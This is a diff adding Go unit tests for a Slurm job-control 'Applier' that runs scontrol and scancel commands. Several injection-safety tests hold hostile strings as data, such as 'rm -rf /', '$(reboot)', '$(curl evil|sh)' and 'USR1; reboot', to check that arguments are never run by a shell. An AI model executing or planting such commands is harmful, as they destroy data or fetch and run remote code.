@@ -1,0 +1,428 @@
+package slurm
+
+import (
+	"context"
+	"errors"
+	"os/exec"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func running(id int, nodes ...string) Job {
+	return Job{ID: id, State: StateRunning, NodeList: nodes, BatchHost: nodes[0], NodeCount: len(nodes), Requeue: true,
+		AdminComment: "model_type=gpt2"}
+}
+
+func pendingHeld(id int) Job {
+	return Job{ID: id, State: StatePending, Held: true, Reason: "job_requeued_in_held_state", Requeue: true,
+		AdminComment: "model_type=gpt2"}
+}
+
+type applierFixture struct {
+	runner  *fakeRunner
+	cluster *fakeCluster
+	clock   *fakeClock
+	app     *Applier
+}
+
+func newApplierFixture(t *testing.T, jobs map[int][]Job, mod func(*ApplierConfig)) *applierFixture {
+	t.Helper()
+	f := &applierFixture{runner: &fakeRunner{}, cluster: &fakeCluster{jobs: jobs}, clock: newFakeClock()}
+	cfg := ApplierConfig{
+		Scontrol: "/usr/bin/scontrol", Scancel: "/usr/bin/scancel",
+		Runner: f.runner, Cluster: f.cluster, Clock: f.clock, Logger: quiet,
+		CheckpointTimeout: 30 * time.Second,
+	}
+	if mod != nil {
+		mod(&cfg)
+	}
+	app, err := NewApplier(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.app = app
+	return f
+}
+
+var planTag = &Tag{ModelType: "gpt2", Class: ClassGuaranteed, Plan: "dp8.tp1.pp1.mb1.a1.z0", Generation: 2}
+
+const planTagAC = "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=guaranteed plan=dp8.tp1.pp1.mb1.a1.z0 gen=2"
+
+func TestApplyStart(t *testing.T) {
+	f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}}, nil)
+	res := f.app.ApplyOne(context.Background(), Action{
+		Kind: ActionStart, JobID: 33, Nodes: []string{"node3", "node4"},
+		GPUsPerNode: 4, CPUsPerTask: 4, MemPerNodeMB: 16000, Tag: planTag,
+	})
+	if res.Err != nil {
+		t.Fatalf("Err = %v", res.Err)
+	}
+	want := [][]string{
+		{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=4", "NumCPUs=8",
+			"MinMemoryNode=16000", "Gres=gpu:4", "NodeList=node3,node4"},
+		{"/usr/bin/scontrol", "update", "JobId=33", planTagAC},
+		{"/usr/bin/scontrol", "release", "33"},
+	}
+	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
+		t.Errorf("argv (-want +got):\n%s", diff)
+	}
+	if res.After != nil {
+		t.Error("After set on success")
+	}
+	if len(f.clock.Sleeps()) != 0 {
+		t.Errorf("a first start must not wait: %v", f.clock.Sleeps())
+	}
+}
+
+func TestApplyStartLetsSlurmPlace(t *testing.T) {
+	f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}}, nil)
+	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionStart, JobID: 33, NumNodes: 1, CPUsPerTask: 2})
+	if res.Err != nil {
+		t.Fatal(res.Err)
+	}
+	want := [][]string{
+		{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=1-1", "NumTasks=1", "CPUsPerTask=2", "NumCPUs=2"},
+		{"/usr/bin/scontrol", "release", "33"},
+	}
+	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
+		t.Errorf("argv (-want +got):\n%s", diff)
+	}
+}
+
+func TestApplyRejectsBeforeRunning(t *testing.T) {
+	tests := map[string]struct {
+		act     Action
+		wantErr error
+	}{
+		"start without CPUs":    {Action{Kind: ActionStart, JobID: 5, NumNodes: 1}, ErrBadAction},
+		"start without nodes":   {Action{Kind: ActionStart, JobID: 5, CPUsPerTask: 1}, ErrBadAction},
+		"count and list differ": {Action{Kind: ActionStart, JobID: 5, NumNodes: 3, Nodes: []string{"a"}, CPUsPerTask: 1}, ErrBadAction},
+		"duplicate nodes":       {Action{Kind: ActionStart, JobID: 5, Nodes: []string{"a", "a"}, CPUsPerTask: 1}, ErrBadAction},
+		"node name with comma":  {Action{Kind: ActionStart, JobID: 5, Nodes: []string{"a,b"}, CPUsPerTask: 1}, ErrBadAction},
+		"node name with space":  {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"a b"}}, ErrBadAction},
+		"bad tag":               {Action{Kind: ActionAnnotate, JobID: 5, Tag: &Tag{Plan: "a;b"}}, ErrBadAction},
+		"annotate without tag":  {Action{Kind: ActionAnnotate, JobID: 5}, ErrBadAction},
+		"no job id":             {Action{Kind: ActionAnnotate, Tag: planTag}, ErrBadAction},
+		"shrink to zero":        {Action{Kind: ActionShrink, JobID: 5}, ErrBadAction},
+		"unknown kind":          {Action{Kind: "grow", JobID: 5}, ErrBadAction},
+		"start a running job":   {Action{Kind: ActionStart, JobID: 5, NumNodes: 1, CPUsPerTask: 1}, ErrJobState},
+		"shrink a pending job":  {Action{Kind: ActionShrink, JobID: 6, NumNodes: 1}, ErrJobState},
+		"drop the batch host":   {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"node2"}}, ErrBadAction},
+		"keep a foreign node":   {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"node1", "node9"}}, ErrBadAction},
+		"shrink that grows":     {Action{Kind: ActionShrink, JobID: 5, NumNodes: 3}, ErrBadAction},
+		"restart a no-requeue":  {Action{Kind: ActionRestart, JobID: 7, NumNodes: 1, CPUsPerTask: 1}, ErrJobState},
+		"preempt a pending job": {Action{Kind: ActionPreempt, JobID: 8}, ErrJobState},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			noRequeue := running(7, "node1")
+			noRequeue.Requeue = false
+			notHeld := pendingHeld(8)
+			notHeld.Held = false
+			f := newApplierFixture(t, map[int][]Job{
+				5: {running(5, "node1", "node2", "node3")},
+				6: {pendingHeld(6)},
+				7: {noRequeue},
+				8: {notHeld},
+			}, nil)
+			res := f.app.ApplyOne(context.Background(), tc.act)
+			if !errors.Is(res.Err, tc.wantErr) {
+				t.Fatalf("Err = %v, want %v", res.Err, tc.wantErr)
+			}
+			if calls := f.runner.Calls(); len(calls) != 0 {
+				t.Errorf("commands ran: %v", calls)
+			}
+		})
+	}
+}
+
+func TestApplyShrink(t *testing.T) {
+	tests := map[string]struct {
+		act  Action
+		want []string
+	}{
+		"by count": {Action{Kind: ActionShrink, JobID: 5, NumNodes: 1},
+			[]string{"/usr/bin/scontrol", "update", "JobId=5", "NumNodes=1"}},
+		"by list keeping the batch host": {Action{Kind: ActionShrink, JobID: 5, Nodes: []string{"node1", "node3"}},
+			[]string{"/usr/bin/scontrol", "update", "JobId=5", "NodeList=node1,node3"}},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			f := newApplierFixture(t, map[int][]Job{5: {running(5, "node1", "node2", "node3")}}, nil)
+			res := f.app.ApplyOne(context.Background(), tc.act)
+			if res.Err != nil {
+				t.Fatal(res.Err)
+			}
+			if diff := cmp.Diff([][]string{tc.want}, f.runner.Calls()); diff != "" {
+				t.Errorf("argv (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func restartAction() Action {
+	return Action{Kind: ActionRestart, JobID: 32, Nodes: []string{"node1", "node2"}, GPUsPerNode: 8, CPUsPerTask: 16,
+		MemPerNodeMB: 64000, Tag: planTag}
+}
+
+var restartArgv = [][]string{
+	{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
+	{"/usr/bin/scontrol", "requeuehold", "32"},
+	{"/usr/bin/scontrol", "update", "JobId=32", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=16", "NumCPUs=32",
+		"MinMemoryNode=64000", "Gres=gpu:8", "NodeList=node1,node2"},
+	{"/usr/bin/scontrol", "update", "JobId=32", planTagAC},
+	{"/usr/bin/scontrol", "update", "JobId=32", "StartTime=now"},
+	{"/usr/bin/scontrol", "release", "32"},
+}
+
+func TestApplyRestart(t *testing.T) {
+	completing := pendingHeld(32)
+	completing.StateFlags = []string{StateCompleting}
+	tests := map[string]struct {
+		states     []Job
+		wantSleeps []time.Duration
+	}{
+		// checkpoint wait, then the release delay measured from the requeue
+		"pending at once": {[]Job{running(32, "node2", "node3"), pendingHeld(32)},
+			[]time.Duration{30 * time.Second, 2 * time.Second}},
+		// two polls of 1 s already cover the 2 s release delay
+		"completing first": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), completing, pendingHeld(32)},
+			[]time.Duration{30 * time.Second, time.Second, time.Second}},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			f := newApplierFixture(t, map[int][]Job{32: tc.states}, nil)
+			res := f.app.ApplyOne(context.Background(), restartAction())
+			if res.Err != nil {
+				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
+			}
+			if diff := cmp.Diff(restartArgv, f.runner.Calls()); diff != "" {
+				t.Errorf("argv (-want +got):\n%s", diff)
+			}
+			if diff := cmp.Diff(tc.wantSleeps, f.clock.Sleeps()); diff != "" {
+				t.Errorf("sleeps (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestApplyRestartResumesHalfDoneRestart(t *testing.T) {
+	// A previous attempt requeued the job and stopped: no second signal or
+	// requeue, but StartTime=now and the release still happen.
+	f := newApplierFixture(t, map[int][]Job{32: {pendingHeld(32)}}, nil)
+	res := f.app.ApplyOne(context.Background(), restartAction())
+	if res.Err != nil {
+		t.Fatal(res.Err)
+	}
+	if diff := cmp.Diff(restartArgv[2:], f.runner.Calls()); diff != "" {
+		t.Errorf("argv (-want +got):\n%s", diff)
+	}
+}
+
+func TestApplyRestartFailureRereadsJob(t *testing.T) {
+	half := pendingHeld(32)
+	half.NodeList = nil
+	half.GPUsPerNode = 4 // what Slurm says after the half-applied update
+	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), pendingHeld(32), half}}, nil)
+	f.runner.failAt = map[int]string{3: "scontrol: error: Node count specification invalid"}
+	res := f.app.ApplyOne(context.Background(), restartAction())
+
+	var ce *CommandError
+	if !errors.As(res.Err, &ce) {
+		t.Fatalf("Err = %v, want *CommandError", res.Err)
+	}
+	if diff := cmp.Diff(restartArgv[2], ce.Argv); diff != "" {
+		t.Errorf("error argv (-want +got):\n%s", diff)
+	}
+	if !strings.Contains(res.Err.Error(), "Node count specification invalid") || !strings.Contains(res.Err.Error(), "NumNodes=2-2") {
+		t.Errorf("error %q lacks stderr or argv", res.Err)
+	}
+	if got := len(f.runner.Calls()); got != 3 {
+		t.Errorf("%d commands ran, want 3 (nothing after the failure)", got)
+	}
+	if res.After == nil || res.After.GPUsPerNode != 4 {
+		t.Errorf("After = %+v, want the re-read job", res.After)
+	}
+	last := res.Steps[len(res.Steps)-1]
+	if last.Name != "resize" || last.Err == nil {
+		t.Errorf("last step = %+v", last)
+	}
+}
+
+func TestApplyRestartPendingTimeout(t *testing.T) {
+	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
+		c.PendingTimeout = 5 * time.Second
+	})
+	res := f.app.ApplyOne(context.Background(), restartAction())
+	if !errors.Is(res.Err, ErrJobState) {
+		t.Fatalf("Err = %v, want ErrJobState", res.Err)
+	}
+	if got := len(f.runner.Calls()); got != 2 {
+		t.Errorf("%d commands, want signal + requeuehold only", got)
+	}
+	if res.After == nil || res.After.State != StateRunning {
+		t.Errorf("After = %+v", res.After)
+	}
+}
+
+func TestApplyCheckpointWait(t *testing.T) {
+	t.Run("injected waiter", func(t *testing.T) {
+		var waited Job
+		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), pendingHeld(32)}}, func(c *ApplierConfig) {
+			c.WaitCheckpoint = func(ctx context.Context, j Job) error { waited = j; return nil }
+			c.Signal = "TERM"
+		})
+		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
+		if res.Err != nil {
+			t.Fatal(res.Err)
+		}
+		if waited.ID != 32 {
+			t.Errorf("waiter got job %d", waited.ID)
+		}
+		want := [][]string{
+			{"/usr/bin/scancel", "--signal=TERM", "--batch", "32"},
+			{"/usr/bin/scontrol", "requeuehold", "32"},
+		}
+		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
+			t.Errorf("argv (-want +got):\n%s", diff)
+		}
+	})
+	t.Run("bounded", func(t *testing.T) {
+		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
+			c.CheckpointTimeout = 20 * time.Millisecond
+			c.WaitCheckpoint = func(ctx context.Context, _ Job) error { <-ctx.Done(); return ctx.Err() }
+		})
+		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
+		if res.Err != nil {
+			t.Fatal(res.Err)
+		}
+		if len(f.runner.Calls()) != 2 || !strings.Contains(res.Steps[2].Note, "requeueing anyway") {
+			t.Errorf("steps %+v", res.Steps)
+		}
+	})
+	t.Run("waiter error stops", func(t *testing.T) {
+		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, func(c *ApplierConfig) {
+			c.WaitCheckpoint = func(context.Context, Job) error { return errors.New("job exited") }
+		})
+		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
+		if res.Err == nil || len(f.runner.Calls()) != 1 {
+			t.Errorf("Err = %v, calls %v", res.Err, f.runner.Calls())
+		}
+	})
+}
+
+func TestApplyAnnotateShellTextIsOneArgument(t *testing.T) {
+	nasty := Job{ID: 9, Name: "x; rm -rf / #", State: StateRunning, NodeList: []string{"node1"}, BatchHost: "node1",
+		Comment: "$(reboot)", AdminComment: "note `id`; rm -rf /;$(curl evil|sh)"}
+	f := newApplierFixture(t, map[int][]Job{9: {nasty}}, nil)
+	tag := &Tag{ModelType: "gpt2", Generation: 1}
+	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 9, Tag: tag})
+	if res.Err != nil {
+		t.Fatal(res.Err)
+	}
+	want := [][]string{{"/usr/bin/scontrol", "update", "JobId=9",
+		"AdminComment=note `id`; rm -rf /;$(curl evil|sh);rubick:v1 model=gpt2 gen=1"}}
+	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
+		t.Errorf("argv (-want +got):\n%s", diff)
+	}
+}
+
+func TestApplyAnnotateNoop(t *testing.T) {
+	j := running(5, "node1")
+	j.AdminComment = "model_type=gpt2;" + planTag.String()
+	f := newApplierFixture(t, map[int][]Job{5: {j}}, nil)
+	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 5, Tag: planTag})
+	if res.Err != nil || len(f.runner.Calls()) != 0 {
+		t.Errorf("Err = %v, calls %v; want nothing to do", res.Err, f.runner.Calls())
+	}
+}
+
+func TestApplyManyPartialFailure(t *testing.T) {
+	f := newApplierFixture(t, map[int][]Job{
+		1: {running(1, "node1")},
+		2: {running(2, "node2")},
+	}, nil)
+	f.runner.failAt = map[int]string{1: "slurm_update error: Access/permission denied"}
+	results := f.app.Apply(context.Background(), []Action{
+		{Kind: ActionAnnotate, JobID: 1, Tag: planTag},
+		{Kind: ActionAnnotate, JobID: 404, Tag: planTag},
+		{Kind: ActionAnnotate, JobID: 2, Tag: planTag},
+	})
+	if len(results) != 3 {
+		t.Fatalf("%d results", len(results))
+	}
+	if results[0].Err == nil || results[0].After == nil {
+		t.Errorf("result 0: %+v", results[0])
+	}
+	if !errors.Is(results[1].Err, ErrNotFound) || results[1].AfterErr == nil {
+		t.Errorf("result 1: %+v", results[1])
+	}
+	if results[2].Err != nil {
+		t.Errorf("result 2: %v", results[2].Err)
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	results = f.app.Apply(ctx, []Action{{Kind: ActionAnnotate, JobID: 2, Tag: planTag}})
+	if !errors.Is(results[0].Err, context.Canceled) {
+		t.Errorf("cancelled: %v", results[0].Err)
+	}
+}
+
+func TestNewApplierValidates(t *testing.T) {
+	if _, err := NewApplier(ApplierConfig{}); err == nil {
+		t.Error("no cluster accepted")
+	}
+	if _, err := NewApplier(ApplierConfig{Cluster: &fakeCluster{}, Signal: "USR1; reboot"}); err == nil {
+		t.Error("bad signal accepted")
+	}
+	a, err := NewApplier(ApplierConfig{Cluster: &fakeCluster{}, ReleaseDelay: 100 * time.Millisecond})
+	if err != nil || a.cfg.ReleaseDelay < time.Second {
+		t.Errorf("release delay %v below 1 s accepted (%v)", a.cfg.ReleaseDelay, err)
+	}
+}
+
+func TestExecRunnerPassesArgvVerbatim(t *testing.T) {
+	printf, err := exec.LookPath("printf")
+	if err != nil {
+		t.Skip("no printf binary")
+	}
+	args := []string{printf, "%s|", "x; rm -rf /", "$(id)", "`id`", "a b"}
+	out, err := ExecRunner{}.Run(context.Background(), args)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := string(out), "x; rm -rf /|$(id)|`id`|a b|"; got != want {
+		t.Errorf("output %q, want %q", got, want)
+	}
+}
+
+func TestExecRunnerError(t *testing.T) {
+	ls, err := exec.LookPath("ls")
+	if err != nil {
+		t.Skip("no ls binary")
+	}
+	argv := []string{ls, "/nonexistent/rubick-test"}
+	_, err = ExecRunner{}.Run(context.Background(), argv)
+	var ce *CommandError
+	if !errors.As(err, &ce) || ce.ExitCode == 0 || ce.Stderr == "" {
+		t.Fatalf("err = %#v", err)
+	}
+	if diff := cmp.Diff(argv, ce.Argv); diff != "" {
+		t.Errorf("argv (-want +got):\n%s", diff)
+	}
+	_, err = ExecRunner{}.Run(context.Background(), []string{"/nonexistent/scontrol"})
+	if !errors.As(err, &ce) || ce.ExitCode != -1 {
+		t.Errorf("missing binary: %v", err)
+	}
+}
+
+func TestWithoutJobID(t *testing.T) {
+	got := withoutJobID([]string{"PATH=/bin", "SLURM_JOB_ID=5", "SLURM_JOBID=5", "SLURM_CONF=/x"})
+	if diff := cmp.Diff([]string{"PATH=/bin", "SLURM_CONF=/x"}, got); diff != "" {
+		t.Error(diff)
+	}
+}
